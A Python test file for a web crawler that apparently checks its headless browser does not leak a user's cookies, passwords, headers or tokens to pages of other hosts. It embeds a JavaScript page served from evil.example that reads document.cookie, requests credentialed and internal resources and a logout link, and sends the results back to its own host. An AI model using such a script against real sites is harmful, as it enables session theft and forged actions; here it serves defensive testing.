"""What a user is known by, against pages in a browser: a page of another host asks for what the user may
read, and tells its own host what it read there."""

from __future__ import annotations

import base64
import shutil
from collections.abc import AsyncIterator
from contextlib import closing
from pathlib import Path
from urllib.parse import unquote

import pytest

from loopback import ADDRESS, MISSING, Asked, Loopback, beside, page, reply
from spoor.live.live_crawl import LiveCrawl
from spoor.rendering import browser
from spoor.runs.assemble import make_crawl
from spoor.runs.writer import RunWriter
from spoor.settings import Settings

pytestmark = [
    pytest.mark.server,
    pytest.mark.browser,
    pytest.mark.skipif(
        not any(map(shutil.which, browser.NAMES)),
        reason="no Chromium on PATH: apt install chromium",
    ),
]

HEADER, PASSWORD, TOKEN, COOKIE, INSIDE = (f"sesame-{n}-Wq2" for n in range(5))
BASIC = base64.b64encode(f"anna:{PASSWORD}".encode()).decode()
KNOWN_BY = (HEADER, BASIC, COOKIE)
SECRETS = (*KNOWN_BY, TOKEN, INSIDE)
APART = "http://own.example", "http://evil.example", "http://sub.own.example"

STEAL = """<title>{host}</title><p>clay clay<div id=app></div>
<script src="http://own.example/whoami.js"></script><script>
const tell = (how, what) => fetch("/stolen/" + how + "?" + encodeURIComponent(what)).catch(() => 0);
tell("jar", document.cookie);
if (window.me) tell("script", window.me);
const read = (how, url, more) =>
  fetch(url, more).then(reply => reply.text()).then(text => tell(how, text)).catch(() => 0);
read("open", "http://own.example/open.json");
read("include", "http://own.example/open.json?2", {{credentials: "include"}});
read("closed", "http://own.example/closed.json");
read("moved", "/moved/http://own.example/closed.json");
read("inside", "/moved/http://inside.example/");
read("act", "http://own.example/act/{host}");
read("as the user", "http://own.example/act/{host}/as", {{credentials: "include"}});
fetch("http://own.example/logout", {{credentials: "include", mode: "no-cors"}}).catch(() => 0);
</script>"""
OWN = """<title>Own</title><p>clay clay<div id=app></div>
<script src="/whoami.js"></script><script>
fetch("/closed.json?own").then(reply => reply.text()).then(text => fetch("/mine/" + text.length));
fetch("http://api.own.example/with").then(reply => reply.text()).then(t => fetch("/with/" + t.length));
</script>"""


def site() -> Loopback:
    """`own.example` shows who asks what it knows of him; so do `open.json` to every origin, and a
    script."""

    def answer(asked: Asked) -> bytes:
        _, _, path = asked.url.partition(asked.host)
        if asked.path == "/robots.txt":
            return MISSING
        if path.startswith("/moved/"):
            return reply("", 302, Location=path.removeprefix("/moved/"))
        if asked.host == "own.example":
            head = " ".join(server.heads[-1].split())
            if asked.path == "/":
                return page(*(f"{one}/page" for one in APART), text="<p>clay")
            if asked.path == "/page":
                return reply(OWN)
            if asked.path == "/whoami.js":
                return reply(f"window.me = {head!r}", media="text/javascript")
            if asked.path == "/open.json":
                return reply(head, media="text/plain", Access_Control_Allow_Origin="*")
            return reply(head, media="text/plain")
        if asked.host == "api.own.example":
            return reply(
                "x" * 7,
                Access_Control_Allow_Origin="http://own.example",
                Access_Control_Allow_Credentials="true",
            )
        if asked.host == "inside.example":
            return reply(INSIDE)
        return reply(STEAL.format(host=asked.host)) if asked.path == "/page" else reply("")

    server = Loopback(answer)
    return server


def test_a_page_of_another_host_reads_nothing_by_the_users_name(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    jar, netrc = tmp_path / "cookies.txt", tmp_path / "netrc"
    jar.write_text(f".own.example\tTRUE\t/\tFALSE\t0\tuser\t{COOKIE}\n")
    netrc.write_text(f"machine own.example login anna password {PASSWORD}\n")
    monkeypatch.setenv("SPOOR_BEARER", f"b.example={TOKEN}\n")
    environments: list[bytes] = []
    server = site()
    answer = server.answer

    def looked(asked: Asked) -> bytes | AsyncIterator[bytes]:
        if asked.path.startswith("/stolen/"):
            for process in Path("/proc").glob("[0-9]*"):
                try:
                    if b"--spoor=" in (process / "cmdline").read_bytes():
                        environments.append((process / "environ").read_bytes())
                except OSError:
                    continue
        return answer(asked)

    server.answer = looked
    with beside(server.serving):
        told = Settings(
            seeds=("http://own.example/",),
            topic="clay",
            scope="anywhere",
            delay=0.0,
            render="always",
            render_timeout=10.0,
            connect_to=f"{ADDRESS}:{server.port}",
            cookies=str(jar),
            netrc=str(netrc),
            header=(f"X-Key: {HEADER}",),
        )
        with closing(RunWriter(tmp_path / "run", told)) as folder:
            LiveCrawl(folder, make_crawl(told)).run()
    stolen = [unquote(head.partition("\r\n")[0]) for head in server.heads if "/stolen/" in head]
    assert {one.partition("/stolen/")[2][:4] for one in stolen} >= {"scri", "open"}, "it was tried"
    for head in server.heads:
        assert "referer" not in head.lower()
        line, _, rest = head.partition("\r\n")
        assert not [one for one in SECRETS if one in unquote(line)], head
        if "Host: own.example\r\n" not in rest:
            # A cookie of a domain goes to its subdomains.
            its = (COOKIE,) if ".own.example\r\n" in rest else ()
            assert not [one for one in SECRETS if one in rest and one not in its], head
    own = {head.split()[1]: head for head in server.heads if "\r\nHost: own.example\r\n" in head}
    assert all(one in own["/closed.json?own"] for one in KNOWN_BY), "its own page is the user's"
    assert "/with/7" in own, "a subdomain that says so lets it read by the user's cookies"
    acts = [head for head in server.heads if head.startswith("GET /act/")]
    assert {head.split("/")[2].split()[0] for head in acts} == {"evil.example", "sub.own.example"}
    for head in acts:
        assert not [one for one in KNOWN_BY if one in head], "a stranger acts by nobody's name"
    assert "/logout" not in own, "links that do something are left alone, by scripts too"
    assert environments
    assert not any(TOKEN.encode() in one for one in environments)
